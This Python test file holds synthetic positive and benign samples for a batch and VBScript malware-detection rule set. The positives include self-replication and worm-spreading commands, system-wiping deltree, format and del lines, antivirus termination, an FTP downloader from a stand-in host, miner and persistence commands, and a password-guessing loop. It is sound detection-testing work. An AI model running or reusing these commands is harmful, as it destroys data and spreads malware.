"""Examples for the `BAT-` rules; every text is synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

BAT = Lang.BATCH
VBS = Lang.VBSCRIPT
JS = Lang.JAVASCRIPT

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    # infection and self-replication
    ("BAT-001", BAT, "@echo off\nfor %%h in (*.bat ..\\*.bat) do type %0 >> %%h\n"),
    ("BAT-001", BAT, 'for %%a in (*.cmd) do call "%~f0" hit %%a\n:hit\ntype tmp.bat>>%2\n'),
    ("BAT-001", BAT, 'for %%a in (*.bat) do set T=%%a\nfind "zq"<%0>>%T%\n'),
    ("BAT-001", BAT, "for %%v in (*.bat) do copy /b %%v+%0 %%v >nul\n"),
    ("BAT-001", JS, 'for %%q in (C:\\*.bat) do type "%~f0" >>"%%q"\n'),
    (
        "BAT-002",
        BAT,
        "for %%p in (*.com *.exe) do set N=%%p\nren %N% _%N%\ncopy %0 %N%\nattrib +h _%N%\n",
    ),
    ("BAT-003", BAT, "copy %0 c:\\windows\\sysbat.bat >nul\n"),
    ("BAT-003", BAT, 'copy /y "%~f0" "%appdata%\\svc.cmd"\n'),
    ("BAT-004", BAT, "copy %0 a:\\readme.bat\n"),
    ("BAT-004", BAT, "for %%d in (e f g h) do if exist %%d:\\ copy %0 %%d:\\\n"),
    ("BAT-005", BAT, "copy %0 c:\\one.bat\ncopy %0 c:\\dos\\two.bat\n\ncopy %0 d:\\three.bat\n"),
    ("BAT-006", BAT, "for %%z in (*.zip) do pkzip %%z %0 >nul\n"),
    ("BAT-006", BAT, "rar a -y backup.rar %~f0\n"),
    (
        "BAT-007",
        BAT,
        "@set h=%@fileopen[c:\\x.btm,write]\n@set d=%@filewrite[%h,%@line[%_batchname,3]]\n",
    ),
    (
        "BAT-008",
        BAT,
        "echo [script]>c:\\mirc\\script.ini\necho n0=on 1:JOIN:#:{ >>c:\\mirc\\script.ini\n"
        "echo n1= /dcc send $nick c:\\pics.bat >>c:\\mirc\\script.ini\n",
    ),
    ("BAT-008", VBS, 'f.WriteLine "n0=on 1:join:*:{ /dcc send $nick " & p & " }"'),
    ("BAT-009", BAT, 'copy %0 "c:\\program files\\kazaa\\my shared folder\\crack.bat"\n'),
    ("BAT-009", VBS, 'fso.CopyFile WScript.ScriptFullName, pf & "\\LimeWire\\Shared\\key.vbs"'),
    ("BAT-010", BAT, "for /f %%h in (hosts.txt) do copy %0 \\\\%%h\\c$\\start.bat\n"),
    ("BAT-002", BAT, "for %%x in (*.*) do copy /y %0 %%x >nul\n"),
    (
        "BAT-012",
        BAT,
        "for /f %%m in ('net view ^| find \"\\\\\"') do copy %0 %%m\\c$\\autoexec.bat\n",
    ),
    ("BAT-013", BAT, "blat readme.txt -to friend@example.net -attach %0\n"),
    ("BAT-011", BAT, 'find "qz"<%0>c:\\qz.bat\nfor %%f in (*.bat) do call c:\\qz %%f\n'),
    # damage
    ("BAT-020", BAT, "deltree /y c:\\windows\n"),
    ("BAT-020", BAT, "rd /s /q %systemroot%\n"),
    ("BAT-020", BAT, "del /f /s /q c:\\*.* >nul\n"),
    ("BAT-020", BAT, "del /q %windir%\\system32\\*.dll\n"),
    ("BAT-020", VBS, 'b.WriteLine "@deltree /y c:\\ > nul"'),
    ("BAT-021", BAT, "del /s /q *.doc *.xls *.jpg\n"),
    ("BAT-021", BAT, "del /f *.mp3\ndel /f *.avi\ndel /f *.jpeg\n"),
    ("BAT-021", BAT, 'for /r c:\\ %%f in (*.doc *.jpg) do del /q "%%f"\n'),
    ("BAT-022", BAT, "ren c:\\windows\\*.exe *.old\nren c:\\windows\\*.dll *.old\n"),
    ("BAT-023", BAT, 'rd /s /q "c:\\program files\\mcafee"\n'),
    ("BAT-023", BAT, "del c:\\progra~1\\norton~1\\*.dat\n"),
    ("BAT-024", BAT, "taskkill /f /im avp.exe\n"),
    ("BAT-024", BAT, 'net stop "Symantec AntiVirus"\n'),
    ("BAT-024", BAT, "for %%p in (egui.exe ekrn.exe msmpeng.exe) do taskkill /f /im %%p\n"),
    ("BAT-025", BAT, "echo y|format d: /q\n"),
    ("BAT-025", BAT, "format c: /autotest\n"),
    (
        "BAT-026",
        BAT,
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v"
        " DisableTaskMgr /t REG_DWORD /d 1 /f\n",
    ),
    ("BAT-026", VBS, 'sh.RegWrite k & "DisableRegistryTools", 1, "REG_DWORD"'),
    ("BAT-027", BAT, ":spin\nstart notepad\nstart calc\ngoto spin\n"),
    ("BAT-028", BAT, "start /min %0\n"),
    (
        "BAT-029",
        BAT,
        "md %random%\nmd %random%\nmd %random%\nmd %random%\nmd %random%\n",
    ),
    ("BAT-029", BAT, "echo x>c:\\%random%.txt\n" * 5),
    ("BAT-030", BAT, "@ctty nul\ncopy a b\nctty con\n"),
    ("BAT-031", BAT, 'echo.|date|find "13"\nif errorlevel 1 goto skip\n'),
    (
        "BAT-032",
        BAT,
        "echo 127.0.0.1 www.kaspersky.com>>%windir%\\system32\\drivers\\etc\\hosts\n",
    ),
    ("BAT-033", BAT, "assoc .exe=txtfile\n"),
    ("BAT-034", BAT, "attrib -h -s -r c:\\ntldr\ndel /f /q c:\\ntldr\n"),
    ("BAT-034", BAT, "del %windir%\\system32\\hal.dll\n"),
    ("BAT-035", BAT, "for %%a in (*.*) do type nul > %%a\n"),
    ("BAT-035", BAT, 'for /r c:\\users %%a in (*) do copy /y nul "%%a"\n'),
    ("BAT-036", BAT, "rundll32 user32,SwapMouseButton\n"),
    ("BAT-036", BAT, "rundll32 keyboard,disable\n"),
    (
        "BAT-037",
        BAT,
        "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot /f\n",
    ),
    ("BAT-038", BAT, "ping -n 1000 -l 65500 198.51.100.7\n"),
    # droppers and persistence
    (
        "BAT-040",
        BAT,
        "echo e 100 B4 09 BA 09 01 CD 21 >>s.scr\necho g>>s.scr\necho q>>s.scr\ndebug<s.scr\n",
    ),
    ("BAT-040", BAT, "echo n drop.com >x.dbg\necho w >>x.dbg\ndebug < x.dbg\n"),
    ("BAT-041", BAT, "echo XP[@PZ5(X5)P^^!H4+ >%temp%\\t.com\n"),
    (
        "BAT-042",
        BAT,
        'echo Set s = CreateObject("WScript.Shell") > %temp%\\r.vbs\n'
        'echo s.Run "calc", 0 >> %temp%\\r.vbs\ncscript //nologo %temp%\\r.vbs\n',
    ),
    ("BAT-042", BAT, "echo WScript.Echo(1) > c:\\a.js\nstart c:\\a.js\n"),
    ("BAT-043", BAT, "open 198.51.100.7 2121\nuser a b\nbinary\nget tool.exe\nbye\n"),
    (
        "BAT-043",
        BAT,
        "echo open ftp.example.net>f.txt\necho anonymous>>f.txt\necho get run.exe>>f.txt\n",
    ),
    ("BAT-044", BAT, "ftp -i -n -s:f.txt\n"),
    ("BAT-045", BAT, "miner.exe -a scrypt -o stratum+tcp://pool.example.net:3333 -u w1 -p x\n"),
    ("BAT-045", BAT, "cgminer.exe --url http://pool.example.net:8332 --user w --pass x\n"),
    ("BAT-046", BAT, "echo run=c:\\windows\\svc.bat>>c:\\windows\\win.ini\n"),
    ("BAT-046", BAT, "echo shell=explorer.exe c:\\w\\x.exe>>%windir%\\system.ini\n"),
    ("BAT-047", BAT, "echo call c:\\x.bat>>c:\\autoexec.bat\n"),
    ("BAT-047", VBS, 'Set f = fso.CreateTextFile("C:\\Autoexec.bat", True)'),
    (
        "BAT-048",
        BAT,
        'copy %0 "%userprofile%\\Start Menu\\Programs\\Startup\\upd.bat"\n',
    ),
    (
        "BAT-049",
        BAT,
        "echo [HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]>r.reg\n",
    ),
    ("BAT-050", BAT, "regedit /s r.reg\n"),
    ("BAT-051", BAT, "instsrv svc c:\\tools\\srvany.exe\n"),
    ("BAT-052", BAT, "clearlogs.exe -sec\n"),
    (
        "BAT-053",
        BAT,
        'net use \\\\%1\\ipc$ "" /user:administrator\nif not errorlevel 1 goto a\n'
        'net use \\\\%1\\ipc$ "admin" /user:administrator\nif not errorlevel 1 goto b\n'
        'net use \\\\%1\\ipc$ "test" /user:test\nif not errorlevel 1 goto c\n'
        'net use \\\\%1\\ipc$ "root" /user:root\nif not errorlevel 1 goto d\n',
    ),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    # a batch/JScript hybrid running itself through the script host
    (
        BAT,
        '@if (@X)==(@Y) @end /* JScript comment\n@echo off\ncscript //E:JScript //nologo "%~f0"'
        " %*\nexit /b %errorlevel%\n@if (@X)==(@Y) @end JScript comment */\nWScript.Echo(1);\n",
    ),
    # relaunching itself minimized, printing its own help text
    (BAT, 'if not "%1"=="min" start "" /min "%~f0" min & exit /b\n'),
    (BAT, 'for /f "tokens=* delims=:" %%a in (\'findstr "^:::" "%~f0"\') do echo %%a\n'),
    # a build clean-up and a temp-folder clean-up
    (BAT, "del /s /q *.obj *.pdb *.ilk\nrd /s /q build\nrd /s /q %temp%\\mytool\n"),
    (BAT, "del /f /s /q %windir%\\temp\\*.*\nrd /s /q c:\\windows\\prefetch\n"),
    # concatenating batch files into one listing, backing them up
    (BAT, "for %%f in (*.bat) do type %%f >> all.txt\n"),
    (BAT, "for %%f in (*.bat) do copy %%f %%f.bak\n"),
    # installing a copy of itself into a tools folder
    (BAT, 'copy /y "%~f0" "%ProgramFiles%\\MyTool\\mytool.cmd"\n'),
    # a helper script written with echo and run (the dialog is the whole job)
    (
        BAT,
        'echo WScript.Echo MsgBox("Continue?", 4) > "%temp%\\ask.vbs"\n'
        "for /f %%a in ('cscript //nologo \"%temp%\\ask.vbs\"') do set ans=%%a\n",
    ),
    # a server restart loop, a wait loop
    (BAT, ":restart\nstart /wait server.exe\ngoto restart\n"),
    (BAT, ":wait\nping -n 2 127.0.0.1 >nul\nif not exist done.flag goto wait\n"),
    # parsing the date, an FTP upload of a backup, a drive mapping logon script
    (BAT, "set y=%date:~-4%\nfor /f \"tokens=1-3 delims=/\" %%a in ('date /t') do set d=%%c\n"),
    (BAT, "echo open ftp.example.net>up.txt\necho put backup.zip>>up.txt\nftp -s:up.txt\n"),
    (BAT, "net use h: \\\\srv\\home\nnet use s: \\\\srv\\shared\nnet use p: \\\\srv\\print\n"),
    # an association for a new file type, a hosts entry for a dev site
    (BAT, 'assoc .java=javafile\nftype javafile=c:\\caller.bat "%%1" %%*\n'),
    (BAT, "echo 127.0.0.1 dev.example.test>>%windir%\\system32\\drivers\\etc\\hosts\n"),
    # formatting a drive interactively, a disk-space loop writing numbered logs
    (BAT, "format /?\nlabel e: DATA\n"),
    (BAT, "echo %random% > seed.txt\necho done\n"),
    # a kiosk script re-enabling Task Manager, a net stop of a web service
    (
        BAT,
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v"
        " DisableTaskMgr /t REG_DWORD /d 0 /f\n",
    ),
    (BAT, "net stop w3svc\nnet start w3svc\n"),
    # removing a product's own scheduled updater, killing a stuck editor
    (BAT, "taskkill /f /im notepad.exe\n"),
    # restarting the shell, hashing every file, a path MTU test, listing files
    (BAT, "taskkill /f /im explorer.exe\nstart explorer.exe\ndel explorer.exe.bak\n"),
    (BAT, "for %%f in (*.*) do certutil -hashfile %%f SHA256 > %%~nf.sha\n"),
    (BAT, "ping -f -l 1472 198.51.100.7\n"),
    (BAT, "for %%f in (*.*) do echo %%f >> list.txt\nnet view\n"),
    (BAT, "del /q %windir%\\system32\\LogFiles\\*.log\n"),
)
